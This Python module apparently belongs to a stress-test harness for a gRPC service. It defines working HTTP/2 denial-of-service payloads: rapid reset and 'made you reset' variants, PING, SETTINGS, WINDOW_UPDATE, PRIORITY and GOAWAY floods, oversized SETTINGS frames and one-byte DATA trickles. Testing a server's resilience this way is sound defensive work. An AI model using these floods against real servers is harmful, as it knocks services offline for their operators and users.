"""Endless frames that are cheap to send."""

import struct
from collections.abc import Callable, Iterator
from itertools import count
from uuid import uuid4

from attack import FIRST, Attack, Burst, Bursts, End
from frames import opening
from http2 import (
    ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INTERACT, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, call, call_fields, cancel, frame, message, settings,
)  # fmt: skip

FRAMES_PER_BURST = 500
LIST = "/interaction.inspector.v1.InspectorService/ListExperiences"
UNKNOWN = 0xBB


def flood(data: bytes, *, first: bytes = b"", flow: int = 0) -> Bursts:
    """Repeats the same frame; `flow` is the part that counts against the window."""
    number = max(1, min(FRAMES_PER_BURST, 65_536 // len(data)))

    def bursts() -> Iterator[Burst]:
        if first:
            yield Burst(first)
        burst = Burst(data * number, flow * number)
        while True:
            yield burst

    return bursts


def streams(*parts: Callable[[int], bytes], at_once: int = 50) -> Bursts:
    """Yields endless streams, each with these frames."""

    def bursts() -> Iterator[Burst]:
        for first in count(FIRST, 2 * at_once):
            numbers = range(first, first + 2 * at_once, 2)
            yield Burst(b"".join(part(stream) for stream in numbers for part in parts))

    return bursts


def on_stream(kind: int, flags: int, payload: bytes) -> Callable[[int], bytes]:
    start = frame(kind, flags, 0, payload)[:5]
    return lambda stream: start + struct.pack(">I", stream) + payload


def sessions(numbers: range) -> Burst:
    """Calls of Interact that open sessions, which have names of their own."""
    name = uuid4()
    opens = [message(each, opening(session_id=f"{name}-{each}")) for each in numbers]
    data = b"".join(call(each) + sent for each, sent in zip(numbers, opens, strict=True))
    return Burst(data, sum(len(sent) - 9 for sent in opens))


def headers(path: str = INTERACT, flags: int = END_HEADERS) -> Callable[[int], bytes]:
    return on_stream(HEADERS, flags, call_fields(path))


LONG_MESSAGE = call(1, LIST) + frame(DATA, 0, 1, struct.pack(">BI", 0, 4 << 20))
WHOLE_CALL = headers(LIST, END_HEADERS | END_STREAM)
RESET = on_stream(RST_STREAM, 0, cancel(1)[9:])
STEP = struct.pack(">I", 1)
ONE_BYTE = flood(frame(DATA, 0, 1, b"\0"), flow=1, first=LONG_MESSAGE)
# The frames of floods of a single type.
FRAMES = {
    "PING flood": frame(PING, 0, 0, bytes(8)),
    "PING answers without a PING": frame(PING, ACK, 0, bytes(8)),
    "SETTINGS flood": settings(),
    "SETTINGS of 2700 entries": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 2700),
    "SETTINGS answers without SETTINGS": frame(SETTINGS, ACK, 0, b""),
    "WINDOW_UPDATE flood, connection": frame(WINDOW_UPDATE, 0, 0, STEP),
    "PRIORITY flood": frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)),
    "unknown frames": frame(UNKNOWN, 0, 0, b""),
    "unknown frames of 16 KiB": frame(UNKNOWN, 0, 0, bytes(16_384)),
    "GOAWAY flood": frame(GOAWAY, 0, 0, bytes(8)),
}
# The frames of endless streams.
STREAMS = {
    "rapid reset": [headers(), RESET],
    "rapid reset of whole calls": [WHOLE_CALL, RESET],
    "made you reset: window step 0": [headers(), on_stream(WINDOW_UPDATE, 0, bytes(4))],
    "made you reset: window too large": [
        headers(), on_stream(WINDOW_UPDATE, 0, struct.pack(">I", 0x7FFF_FFFF))],
    "made you reset: DATA after the end": [
        headers(flags=END_HEADERS | END_STREAM), on_stream(DATA, 0, b"late")],
    "made you reset: short PRIORITY": [headers(), on_stream(PRIORITY, 0, b"\0")],
}  # fmt: skip
ATTACKS = [
    *(Attack(name, streams(*parts)) for name, parts in STREAMS.items()),
    *(Attack(name, flood(data)) for name, data in FRAMES.items()),
    *(Attack(f"{name}, unread", flood(FRAMES[name]), reads=False)
      for name in ("PING flood", "SETTINGS flood")),
    Attack("WINDOW_UPDATE flood, stream", flood(frame(WINDOW_UPDATE, 0, 1, STEP), first=call(1))),
    Attack("empty DATA flood", flood(frame(DATA, 0, 1, b""), first=call(1))),
    # Any frame after the stream's end is a connection error.
    Attack("DATA of 1 byte", ONE_BYTE, end=End.STREAMS, is_alone=True),
    # Earlier than the idle timeout of a connection without a call.
    Attack("DATA of 1 byte, on and on", ONE_BYTE, within=2.5),
    # Seconds of them are queued in the kernel.
    Attack("whole calls", streams(WHOLE_CALL), end=End.NOTHING, is_alone=True),
]  # fmt: skip
